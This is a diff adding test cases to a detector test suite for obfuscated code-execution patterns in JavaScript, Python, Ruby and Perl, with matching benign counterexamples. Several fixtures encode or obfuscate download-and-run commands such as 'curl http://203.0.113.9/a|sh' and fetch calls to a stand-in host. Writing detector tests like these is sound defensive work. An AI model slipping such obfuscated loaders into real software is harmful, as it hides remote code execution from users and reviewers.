@@ -114,6 +114,25 @@ describe('source that hides what it runs', () => {
     ['a/compat.py', "import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))"],
     ['src/a.php', "<?php eval(gzinflate(base64_decode('y0jNyclXyFTIS8xNBQA=')));"],
     ['lib/a.rb', "eval(Base64.decode64('cHV0cyAx'))"],
+    ['src/a.js', '(0, eval)(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.js', 'eval?.(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.js', 'const run = eval;\nrun(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.js', 'globalThis[\'eval\'](atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.js', '[].constructor.constructor(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'))();\n'],
+    ['src/a.ts', '(eval as any)(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.mjs', 'await import(\'data:text/javascript;base64,Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\');\n'],
+    ['src/a.js', 'setTimeout(atob(\'Y29uc29sZS5sb2coMSk7ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9hJyk7\'));\n'],
+    ['src/a.js', 'eval(\')\\\'a/9.311.0.302//:ptth\\\'(hctef\'.split(\'\').reverse().join(\'\'));\n'],
+    ['src/a.js', 'eval(unescape(\'%66%65%74%63%68%28%27%68%74%74%70%3a%2f%2f%32%30%33%2e%30%2e%31%31%33%2e%39%27%29\'));\n'],
+    ['src/a.js', 'require(\'child_process\').spawn(\'sh\', [\'-c\', Buffer.from(\'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYXxzaA==\', \'base64\').toString()]);\n'],
+    ['app/a.py', 'exec(\'\'.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))\n'],
+    ['app/a.py', 'exec(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]).decode())\n'],
+    ['app/a.py', 'import base64, os\nos.system(base64.b64decode(\'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYXxzaA==\').decode())\n'],
+    ['app/a.py', 'import base64, builtins\ngetattr(builtins, \'ex\' + \'ec\')(base64.b64decode(\'aW1wb3J0IG9z\'))\n'],
+    ['app/a.py', 'import pickle, base64\npickle.loads(base64.b64decode(\'Y29zCnN5c3RlbQooUydpZCcKdFIu\'))\n'],
+    ['lib/a.rb', 'require \'base64\'\neval Base64.decode64(\'c3lzdGVtKCdjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS9hfHNoJyk=\')\n'],
+    ['lib/a.rb', 'eval(\'c3lzdGVtKCdpZCcp\'.unpack1(\'m\'))\n'],
+    ['lib/a.pl', 'use MIME::Base64;\neval decode_base64(\'c3lzdGVtKCdpZCcp\');\n'],
   ])('%s: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([inWords('hidden code')]);
   });
@@ -125,6 +144,15 @@ describe('source that hides what it runs', () => {
     ['lib/a.py', "with open('version.py') as f:\n    exec(f.read())\nlogo = base64.b64decode(LOGO)"],
     ['src/detect.ts', "const SIGNS = [/eval\\(atob\\(/, /exec\\(base64\\.b64decode/];"],
     ['test/fixtures/evil.js', "eval(atob('YWxlcnQoMSk='))"],
+    ['src/a.js', 'const image = atob(data);\nsetTimeout(() => show(image), 10);'],
+    ['src/a.js', 'const text = \'abc\'.split(\'\').reverse().join(\'\');\nconst found = /a/.exec(text);'],
+    ['src/a.js', 'const name = unescape(encodeURIComponent(text));\nspawn(\'sh\', [\'-c\', \'make\']);'],
+    ['src/a.js', 'spawn(\'convert\', [\'-c\', Buffer.from(options, \'base64\').toString()]);'],
+    ['src/a.js', 'const Own = thing.constructor;\nconst next = new Own(atob(text));'],
+    ['lib/a.py', 'import base64, os, pickle\nraw = base64.b64decode(data)\nos.system(\'make\')\ncache = pickle.loads(path.read_bytes())'],
+    ['lib/a.py', 'alphabet = \'\'.join(chr(c) for c in [97, 98, 99])\nsubprocess.run([\'tr\', \'abc\', \'xyz\'])'],
+    ['lib/a.py', 'header = bytes([137, 80, 78, 71])\nassert raw.startswith(header)'],
+    ['lib/a.rb', 'require \'base64\'\nkey = Base64.decode64(ENV[\'KEY\'])\nnames = row.unpack(\'N*\')'],
   ])('but not %s: %s', async (path, content) => {
     expect(await harmOf(path, content)).toEqual([]);
   });
